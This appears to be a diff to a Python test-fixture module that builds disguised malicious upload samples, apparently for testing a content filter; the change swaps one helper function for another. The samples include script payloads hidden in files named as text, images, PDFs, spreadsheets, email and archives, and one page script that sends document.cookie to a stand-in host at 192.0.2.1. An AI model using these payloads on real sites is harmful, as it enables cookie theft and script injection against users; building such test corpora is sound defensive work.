@@ -6,7 +6,7 @@ import gzip
 from collections.abc import Callable
 
 from tests.support.corpus.packing import zipped
-from tests.support.corpus.sample import NOT_TAKEN, samples
+from tests.support.corpus.sample import NOT_TAKEN, always, samples
 
 SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{}>{}</svg>'
 PAGE = b"<!DOCTYPE html><html><body><script>fetch('http://192.0.2.1/'+document.cookie)</script></body></html>"
@@ -19,10 +19,6 @@ MHT = (
 
 def _svg(inside: str = "", attributes: str = "", before: str = "") -> Callable[[], bytes]:
     return (before + SVG.format(attributes, inside)).encode
-
-
-def _is(content: bytes) -> Callable[[], bytes]:
-    return lambda: content
 
 
 MARKUP = samples(
@@ -42,29 +38,29 @@ MARKUP = samples(
         ("svg-as-txt", "letter.txt", _svg("<script>alert(1)</script>", before='<?xml version="1.0"?>\n<!-- a drawing -->\n')),
         ("svg-deflated", "drawing.svgz", lambda: gzip.compress(_svg("<script>alert(1)</script>")(), mtime=0)),
         ("svg-zipped", "drawings.zip", lambda: zipped({"drawing.svg": _svg("<script>alert(1)</script>")()})),
-        ("html", "page.html", _is(PAGE)),
-        ("html-as-txt", "letter.txt", _is(PAGE)),
-        ("html-as-jpg", "photo.jpg", _is(PAGE)),
-        ("html-as-csv", "accounts.csv", _is(b"name,balance\r\n<img src=x onerror=alert(1)>,1\r\n")),
-        ("html-as-pdf", "statement.pdf", _is(PAGE)),
-        ("html-as-doc", "letter.doc", _is(PAGE)),
+        ("html", "page.html", always(PAGE)),
+        ("html-as-txt", "letter.txt", always(PAGE)),
+        ("html-as-jpg", "photo.jpg", always(PAGE)),
+        ("html-as-csv", "accounts.csv", always(b"name,balance\r\n<img src=x onerror=alert(1)>,1\r\n")),
+        ("html-as-pdf", "statement.pdf", always(PAGE)),
+        ("html-as-doc", "letter.doc", always(PAGE)),
         ("html-utf-16", "letter.txt", lambda: PAGE.decode().encode("utf-16")),
-        ("html-after-white-space", "letter.txt", _is(b"\xef\xbb\xbf\r\n \t" + b"\n" * 400 + PAGE)),
-        ("html-in-capitals", "letter.txt", _is(b"Dear you<SCRIPT SRC=//192.0.2.1></SCRIPT>")),
-        ("html-refresh", "letter.txt", _is(b'<meta http-equiv="refresh" content="0;url=data:text/html,x">')),
+        ("html-after-white-space", "letter.txt", always(b"\xef\xbb\xbf\r\n \t" + b"\n" * 400 + PAGE)),
+        ("html-in-capitals", "letter.txt", always(b"Dear you<SCRIPT SRC=//192.0.2.1></SCRIPT>")),
+        ("html-refresh", "letter.txt", always(b'<meta http-equiv="refresh" content="0;url=data:text/html,x">')),
         ("html-zipped", "letters.zip", lambda: zipped({"letter.html": PAGE})),
         (
             "xhtml",
             "page.xhtml",
-            _is(b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
+            always(b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
         ),
-        ("web-archive", "page.mht", _is(MHT)),
-        ("web-archive-as-doc", "letter.doc", _is(MHT)),
-        ("mail", "letter.eml", _is(b"From: aoife@example.com\r\nSubject: Hello\r\nContent-Type: text/html\r\n\r\n" + PAGE)),
+        ("web-archive", "page.mht", always(MHT)),
+        ("web-archive-as-doc", "letter.doc", always(MHT)),
+        ("mail", "letter.eml", always(b"From: aoife@example.com\r\nSubject: Hello\r\nContent-Type: text/html\r\n\r\n" + PAGE)),
         (
             "xml-style-sheet",
             "letter.xml",
-            _is(b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://192.0.2.1/a.xsl"?><a/>'),
+            always(b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://192.0.2.1/a.xsl"?><a/>'),
         ),
     ],
 )
